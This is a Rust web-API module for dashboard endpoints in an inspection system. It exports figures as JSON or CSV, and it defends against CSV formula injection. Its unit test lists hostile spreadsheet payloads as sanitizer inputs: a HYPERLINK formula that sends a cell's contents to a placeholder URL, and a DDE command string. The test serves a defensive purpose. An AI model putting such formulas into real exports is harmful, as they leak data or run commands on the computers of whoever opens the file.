//! Dashboards: aggregates from the rollups, as JSON or CSV.

use actix_web::http::header::{self, EntityTag};
use actix_web::web::{Data, Query};
use actix_web::{get, HttpRequest, HttpResponse};
use chrono::NaiveDate;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use sha2::{Digest, Sha256};
use utoipa::{IntoParams, ToSchema};
use uuid::Uuid;

use crate::auth::AuthUser;
use crate::db;
use crate::domain::user::Role;
use crate::error::{ApiError, ApiResult, Problem};
use crate::service::dashboards::{self as service, Interval, Range, Summary};
use crate::state::AppState;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum Format {
    Json,
    Csv,
}

#[derive(Debug, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
#[serde(deny_unknown_fields)]
pub struct DashboardQuery {
    /// First local day (inclusive); default 29 days before `to`.
    pub from: Option<NaiveDate>,
    /// Last local day (inclusive); default today.
    pub to: Option<NaiveDate>,
    pub opd_id: Option<Uuid>,
    /// `csv` (or `Accept: text/csv`) for CSV with a header row.
    pub format: Option<Format>,
}

#[derive(Debug, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
#[serde(deny_unknown_fields)]
pub struct TrendsQuery {
    pub from: Option<NaiveDate>,
    pub to: Option<NaiveDate>,
    pub opd_id: Option<Uuid>,
    pub format: Option<Format>,
    /// `day` (local), `week` (ISO, Monday start) or `month`; default `day`.
    pub interval: Option<Interval>,
}

#[derive(Debug, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
#[serde(deny_unknown_fields)]
pub struct OfficialsQuery {
    pub from: Option<NaiveDate>,
    pub to: Option<NaiveDate>,
    pub opd_id: Option<Uuid>,
    pub format: Option<Format>,
    /// Default 3.
    #[param(minimum = 1)]
    pub min_findings: Option<i64>,
}

/// Rows of a dashboard: flat objects with scalar values.
#[derive(Debug, Serialize, ToSchema)]
pub struct DashboardRows {
    pub from: NaiveDate,
    pub to: NaiveDate,
    #[schema(value_type = Vec<Object>)]
    pub items: Vec<Map<String, Value>>,
}

/// The summary, and the same figures as one flat row in `items` (the CSV's columns).
#[derive(Debug, Serialize, ToSchema)]
pub struct SummaryAnswer {
    #[serde(flatten)]
    pub summary: Summary,
    /// One row: every figure above as a scalar column (`findings_by_category_absence`, …).
    #[schema(value_type = Vec<Object>)]
    pub items: Vec<Map<String, Value>>,
}

const EVERYONE: [Role; 4] = [Role::Admin, Role::Supervisor, Role::Inspector, Role::Viewer];

fn wants_csv(req: &HttpRequest, format: Option<Format>) -> bool {
    format == Some(Format::Csv)
        || (format.is_none()
            && req
                .headers()
                .get(header::ACCEPT)
                .and_then(|v| v.to_str().ok())
                .is_some_and(|v| v.contains("text/csv")))
}

/// One CSV cell. Text is made inert for spreadsheets ([`csv_text`]); numbers are written
/// as numbers.
fn cell(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::String(s) => csv_text(s),
        other => other.to_string(),
    }
}

/// Text for a CSV cell that a spreadsheet will not run as a formula (OWASP's CSV-injection
/// rule): a cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
/// leading `'`. Names come from HR spreadsheets through the CSV import, so an OPD named
/// `=HYPERLINK(…)` must reach a supervisor's spreadsheet as text.
pub fn csv_text(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_string()
    }
}

fn csv_response(name: &str, range: Range, rows: &[Map<String, Value>]) -> ApiResult<HttpResponse> {
    let mut w = csv::Writer::from_writer(Vec::new());
    if let Some(first) = rows.first() {
        w.write_record(first.keys()).map_err(ApiError::internal)?;
        for r in rows {
            w.write_record(r.values().map(cell))
                .map_err(ApiError::internal)?;
        }
    }
    let body = w.into_inner().map_err(ApiError::internal)?;
    Ok(HttpResponse::Ok()
        .content_type("text/csv; charset=utf-8")
        .insert_header((
            header::CONTENT_DISPOSITION,
            format!(
                "attachment; filename=\"sidak-{name}-{}-{}.csv\"",
                range.from, range.to
            ),
        ))
        .body(body))
}

/// The validator of a dashboard answer: the dashboards' change counter and the reference
/// data's sync counter (both moved by the transaction of every change the answer could show),
/// today's local date (overdue counts and default ranges move with it), the caller's role,
/// and the request's path, query and `Accept`.
async fn etag(state: &AppState, req: &HttpRequest, caller: &AuthUser) -> ApiResult<EntityTag> {
    let (dashboards, reference) = super::run(&state.pool, |conn| {
        Ok(db::rollups::dashboard_versions(conn)?)
    })
    .await?;
    let accept = req
        .headers()
        .get(header::ACCEPT)
        .map(|v| v.as_bytes())
        .unwrap_or_default();
    let mut h = Sha256::new();
    h.update(
        format!(
            "{dashboards}:{reference}:{}:{}:{}?{}:",
            crate::domain::dates::today(state.config.timezone),
            caller.role,
            req.path(),
            req.query_string()
        )
        .as_bytes(),
    );
    h.update(accept);
    Ok(EntityTag::new_strong(hex::encode(&h.finalize()[..16])))
}

/// Caching headers of every dashboard answer.
fn cached(state: &AppState, etag: &EntityTag, mut resp: HttpResponse) -> HttpResponse {
    let headers = resp.headers_mut();
    if let Ok(v) = header::HeaderValue::from_str(&etag.to_string()) {
        headers.insert(header::ETAG, v);
    }
    if let Ok(v) = header::HeaderValue::from_str(&format!(
        "private, max-age={}",
        state.config.dashboard_max_age_seconds
    )) {
        headers.insert(header::CACHE_CONTROL, v);
    }
    headers.insert(header::VARY, header::HeaderValue::from_static("Accept"));
    resp
}

/// A table of rows as CSV or JSON, with the caching headers.
fn rows_answer(
    state: &AppState,
    req: &HttpRequest,
    format: Option<Format>,
    tag: &EntityTag,
    name: &str,
    r: Range,
    items: Vec<Map<String, Value>>,
) -> ApiResult<HttpResponse> {
    let resp = if wants_csv(req, format) {
        csv_response(name, r, &items)?
    } else {
        HttpResponse::Ok().json(DashboardRows {
            from: r.from,
            to: r.to,
            items,
        })
    };
    Ok(cached(state, tag, resp))
}

/// `304` when the caller's copy is current, so the dashboard is not computed again.
async fn unchanged(
    state: &AppState,
    req: &HttpRequest,
    caller: &AuthUser,
) -> ApiResult<Result<HttpResponse, EntityTag>> {
    let tag = etag(state, req, caller).await?;
    if crate::http::conditional::none_match(req, &tag) {
        Ok(Ok(cached(
            state,
            &tag,
            HttpResponse::NotModified().finish(),
        )))
    } else {
        Ok(Err(tag))
    }
}

fn range(state: &AppState, from: Option<NaiveDate>, to: Option<NaiveDate>) -> ApiResult<Range> {
    Range::new(from, to, crate::domain::dates::today(state.config.timezone))
}

/// Overall figures.
///
/// Reports, attendance and findings by category and severity for the range (the last 30
/// local days by default), and the follow-ups raised, decided and overdue. JSON or one CSV
/// row; `ETag` and `If-None-Match` as for every dashboard.
#[utoipa::path(
    operation_id = "dashboard_summary",
    tag = "dashboards",
    params(DashboardQuery, ("If-None-Match" = Option<String>, Header, description = "An ETag from an earlier answer: `304` when nothing it shows has changed")),
    responses(
        (status = 200, description = "The summary (JSON, or one CSV row)", content((SummaryAnswer = "application/json"), (String = "text/csv")), headers(("ETag" = String, description = "Validator for If-None-Match"), ("Cache-Control" = String, description = "private, max-age=SIDAK_DASHBOARD_MAX_AGE_SECONDS"))),
        (status = 304, description = "Unchanged since the ETag in If-None-Match (no body)", headers(("ETag" = String), ("Cache-Control" = String))),
        (status = 403, description = "Not signed in with a role", body = Problem, content_type = "application/problem+json"),
    )
)]
#[get("/api/v1/dashboard/summary")]
pub async fn summary(
    req: HttpRequest,
    state: Data<AppState>,
    caller: AuthUser,
    q: Query<DashboardQuery>,
) -> ApiResult<HttpResponse> {
    caller.require(&EVERYONE)?;
    let q = q.into_inner();
    let r = range(&state, q.from, q.to)?;
    let tag = match unchanged(&state, &req, &caller).await? {
        Ok(not_modified) => return Ok(not_modified),
        Err(tag) => tag,
    };
    let opd = q.opd_id.map(|o| o.to_string());
    let (today, tz) = (
        crate::domain::dates::today(state.config.timezone),
        state.config.timezone,
    );
    let s = super::run(&state.pool, move |conn| {
        service::summary(conn, r, opd.as_deref(), today, tz)
    })
    .await?;
    if wants_csv(&req, q.format) {
        let value = serde_json::to_value(&s).map_err(ApiError::internal)?;
        return Ok(cached(
            &state,
            &tag,
            csv_response("summary", r, &[service::flatten(&value)])?,
        ));
    }
    let items = vec![service::flatten(
        &serde_json::to_value(&s).map_err(ApiError::internal)?,
    )];
    Ok(cached(
        &state,
        &tag,
        HttpResponse::Ok().json(SummaryAnswer { summary: s, items }),
    ))
}

/// Figures per OPD.
///
/// One row per OPD for the range: every active OPD (zeros included), and deactivated ones
/// that have data in it. JSON or CSV; answers carry an `ETag`, and `If-None-Match` gives
/// `304` while nothing they show has changed.
#[utoipa::path(
    operation_id = "dashboard_opds",
    tag = "dashboards",
    params(DashboardQuery, ("If-None-Match" = Option<String>, Header, description = "An ETag from an earlier answer: `304` when nothing it shows has changed")),
    responses(
        (status = 200, description = "One row per OPD", content((DashboardRows = "application/json"), (String = "text/csv")), headers(("ETag" = String, description = "Validator for If-None-Match"), ("Cache-Control" = String, description = "private, max-age=SIDAK_DASHBOARD_MAX_AGE_SECONDS"))),
        (status = 304, description = "Unchanged since the ETag in If-None-Match (no body)", headers(("ETag" = String), ("Cache-Control" = String))),
    )
)]
#[get("/api/v1/dashboard/opds")]
pub async fn opds(
    req: HttpRequest,
    state: Data<AppState>,
    caller: AuthUser,
    q: Query<DashboardQuery>,
) -> ApiResult<HttpResponse> {
    caller.require(&EVERYONE)?;
    let q = q.into_inner();
    let r = range(&state, q.from, q.to)?;
    let tag = match unchanged(&state, &req, &caller).await? {
        Ok(not_modified) => return Ok(not_modified),
        Err(tag) => tag,
    };
    let opd = q.opd_id.map(|o| o.to_string());
    let items = super::run(&state.pool, move |conn| {
        service::opds(conn, r, opd.as_deref())
    })
    .await?;
    rows_answer(&state, &req, q.format, &tag, "opds", r, items)
}

/// Figures over time.
///
/// A time series in local days, ISO weeks or months for the range; buckets with no data are
/// zeros. JSON or CSV; `ETag` and `If-None-Match` as for every dashboard.
#[utoipa::path(
    operation_id = "dashboard_trends",
    tag = "dashboards",
    params(TrendsQuery, ("If-None-Match" = Option<String>, Header, description = "An ETag from an earlier answer: `304` when nothing it shows has changed")),
    responses(
        (status = 200, description = "One row per bucket", content((DashboardRows = "application/json"), (String = "text/csv")), headers(("ETag" = String, description = "Validator for If-None-Match"), ("Cache-Control" = String, description = "private, max-age=SIDAK_DASHBOARD_MAX_AGE_SECONDS"))),
        (status = 304, description = "Unchanged since the ETag in If-None-Match (no body)", headers(("ETag" = String), ("Cache-Control" = String))),
    )
)]
#[get("/api/v1/dashboard/trends")]
pub async fn trends(
    req: HttpRequest,
    state: Data<AppState>,
    caller: AuthUser,
    q: Query<TrendsQuery>,
) -> ApiResult<HttpResponse> {
    caller.require(&EVERYONE)?;
    let q = q.into_inner();
    let r = range(&state, q.from, q.to)?;
    let tag = match unchanged(&state, &req, &caller).await? {
        Ok(not_modified) => return Ok(not_modified),
        Err(tag) => tag,
    };
    let opd = q.opd_id.map(|o| o.to_string());
    let interval = q.interval.unwrap_or(Interval::Day);
    let items = super::run(&state.pool, move |conn| {
        service::trends(conn, r, opd.as_deref(), interval)
    })
    .await?;
    rows_answer(&state, &req, q.format, &tag, "trends", r, items)
}

/// Repeat offenders (supervisor, admin).
///
/// Officials with at least `min_findings` findings in the range, with their current OPD and
/// open follow-ups. JSON or CSV; `ETag` and `If-None-Match` as for every dashboard.
#[utoipa::path(
    operation_id = "dashboard_officials",
    tag = "dashboards",
    params(OfficialsQuery, ("If-None-Match" = Option<String>, Header, description = "An ETag from an earlier answer: `304` when nothing it shows has changed")),
    responses(
        (status = 200, description = "One row per official", content((DashboardRows = "application/json"), (String = "text/csv")), headers(("ETag" = String, description = "Validator for If-None-Match"), ("Cache-Control" = String, description = "private, max-age=SIDAK_DASHBOARD_MAX_AGE_SECONDS"))),
        (status = 304, description = "Unchanged since the ETag in If-None-Match (no body)", headers(("ETag" = String), ("Cache-Control" = String))),
        (status = 403, description = "Supervisors and admins only", body = Problem, content_type = "application/problem+json"),
    )
)]
#[get("/api/v1/dashboard/officials")]
pub async fn officials(
    req: HttpRequest,
    state: Data<AppState>,
    caller: AuthUser,
    q: Query<OfficialsQuery>,
) -> ApiResult<HttpResponse> {
    caller.require(&[Role::Admin, Role::Supervisor])?;
    let q = q.into_inner();
    let r = range(&state, q.from, q.to)?;
    let min = q.min_findings.unwrap_or(3);
    if min < 1 {
        return Err(ApiError::invalid("min_findings", "must be at least 1"));
    }
    let tag = match unchanged(&state, &req, &caller).await? {
        Ok(not_modified) => return Ok(not_modified),
        Err(tag) => tag,
    };
    let opd = q.opd_id.map(|o| o.to_string());
    let items = super::run(&state.pool, move |conn| {
        service::officials(conn, r, opd.as_deref(), min)
    })
    .await?;
    rows_answer(&state, &req, q.format, &tag, "officials", r, items)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn formulas_become_text() {
        assert_eq!(
            csv_text("=HYPERLINK(\"http://x\"&A2,\"Klik\")"),
            "'=HYPERLINK(\"http://x\"&A2,\"Klik\")"
        );
        assert_eq!(csv_text("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(csv_text("-1+1"), "'-1+1");
        assert_eq!(csv_text("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_text("\tx"), "'\tx");
        assert_eq!(csv_text("\rx"), "'\rx");
        assert_eq!(csv_text("Dinas Kesehatan"), "Dinas Kesehatan");
        assert_eq!(csv_text(""), "");
        assert_eq!(cell(&json!(-3)), "-3");
        assert_eq!(cell(&json!("-3")), "'-3");
    }
}
